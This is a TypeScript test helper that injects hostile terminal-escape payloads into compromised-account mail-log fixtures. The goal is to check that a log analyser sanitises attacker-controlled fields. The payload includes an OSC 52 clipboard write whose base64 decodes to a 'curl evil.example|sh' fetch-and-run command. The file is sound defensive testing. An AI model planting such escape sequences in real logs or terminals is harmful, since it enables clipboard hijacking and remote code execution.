/**
 * The compromised-account scenarios of fixtures/scenarios, with attacker-written fields
 * (sender and recipient addresses, Subject, HELO name, failed-login names, a MeterMaid
 * key) carrying terminal escapes, CR, TAB, NUL, C1 controls and bidi overrides. The
 * lines still parse, so the findings still come, now with hostile text in their
 * evidence, messages and (MeterMaid) account.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { repoPath } from '../helpers/paths.js';

/** Clear screen, OSC 52 (write the clipboard), BEL, CR, NUL, NEL, 8-bit CSI, bidi overrides, DEL. */
export const PAYLOAD_NO_BLANK = '\x1b[2J\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\r\0\x85\x9b31m\u202e\u2066\x7f\x1b[8m';
/** The same with a TAB, for fields that may hold one. */
export const PAYLOAD = `${PAYLOAD_NO_BLANK}\t`;
/** The payload as XML character references (LOG_FORMAT=4 decodes them). */
export const PAYLOAD_XML = '&#27;[2J&#x1b;]52;c;Y3VybA==&#7;&#13;&#10;&#0;&#x85;&#x9b;31m&#x202e;&#127;';

/** How the payload's first escape looks once sanitised: proof that it went through. */
export const ESCAPED_MARK = '\\x1b[2J';

export interface HostileLog {
  readonly name: string;
  /** The parser to force (`--format`). */
  readonly format: string;
  /** The scenario's config (timezone, default domain, accounts). */
  readonly config: string;
  readonly text: string;
}

function scenario(name: string): { config: string; text: string } {
  return {
    config: repoPath('fixtures', 'scenarios', name, 'config.json'),
    text: readFileSync(repoPath('fixtures', 'scenarios', name, 'input.log'), 'utf8'),
  };
}

/** Local parts of outside recipients and forged senders get the payload. */
const OUTSIDE = /([A-Za-z0-9._-]+)@((?:victims\d+|paypa1-secure|bank-alert|parcel-track)[A-Za-z0-9.-]*)/g;

export function hostileLogs(): HostileLog[] {
  const logs: HostileLog[] = [];

  const pf = scenario('postfix-compromised');
  logs.push({
    name: 'postfix', format: 'postfix', config: pf.config,
    text: pf.text
      .replace(OUTSIDE, (_, local: string, domain: string) => `${local}${PAYLOAD_NO_BLANK}@${domain}`)
      // Failed logins: the name tried is whatever the attacker typed.
      .replace(/(authentication failed: [^,\n]*, sasl_username=)([^\n]+)/g, (_, head: string, user: string) => `${head}${user}${PAYLOAD}`),
  });

  const ke = scenario('kerio-compromised');
  logs.push({
    name: 'kerio', format: 'kerio', config: ke.config,
    text: ke.text
      .replace(OUTSIDE, (_, local: string, domain: string) => `${local}${PAYLOAD_NO_BLANK}@${domain}`)
      .replace(/, Subject: /g, `, Subject: ${PAYLOAD}`),
  });

  const mtaField = (v: string): string => v
    .replace(OUTSIDE, (_, local: string, domain: string) => `${local}${PAYLOAD_NO_BLANK}@${domain}`)
    // The HELO name of the attacker's client.
    .replace(/(^| )ylmf-pc /g, `$1ylmf-pc${PAYLOAD_NO_BLANK} `);
  for (const n of [1, 2]) {
    const mta = scenario(`mta-format${n}-compromised`);
    logs.push({ name: `mta-format${n}`, format: 'mta-transaction', config: mta.config, text: mtaField(mta.text) });
  }
  const counted = scenario('mta-format3-compromised');
  logs.push({
    name: 'mta-format3', format: 'mta-transaction', config: counted.config,
    text: counted.text.split('\n').map((l) => recount(l, mtaField)).join('\n'),
  });

  const x = scenario('mta-format4-compromised');
  logs.push({
    name: 'mta-format4', format: 'mta-transaction', config: x.config,
    text: x.text
      .replace(OUTSIDE, (_, local: string, domain: string) => `${local}${PAYLOAD_XML}${PAYLOAD_NO_BLANK}@${domain}`)
      .replace(/ss="ylmf-pc /g, `ss="ylmf-pc${PAYLOAD_XML} `),
  });

  const mm = scenario('metermaid-compromised');
  logs.push({
    name: 'metermaid', format: 'metermaid', config: mm.config,
    // The counter key is the account: the hostile text reaches the account column itself.
    text: mm.text.replace(/"frank@example\.edu"/g, `"frank${PAYLOAD}@example.edu"`),
  });
  return logs;
}

/**
 * LOG_FORMAT=3 writes `N:value` with N the value's length: each counted field is
 * changed on its own and written back with its new length, so the fields still read whole.
 */
function recount(line: string, change: (value: string) => string): string {
  let out = '';
  let i = 0;
  while (i < line.length) {
    const m = i === 0 || line.charAt(i - 1) === ' ' ? /^(\d{1,7}):/.exec(line.slice(i, i + 8)) : null;
    if (m?.[1] === undefined) {
      out += line.charAt(i++);
      continue;
    }
    const start = i + m[0].length;
    const value = line.slice(start, start + Number(m[1]));
    const changed = change(value);
    out += changed === value ? `${m[1]}:${value}` : `${changed.length}:${changed}`;
    i = start + value.length;
  }
  return out;
}

/** Writes `text` into a fresh temporary directory; returns the file's path. */
export function writeTemp(name: string, text: string | Buffer): string {
  const dir = mkdtempSync(join(tmpdir(), 'sendwatch-hostile-'));
  const path = join(dir, name);
  writeFileSync(path, text);
  return path;
}
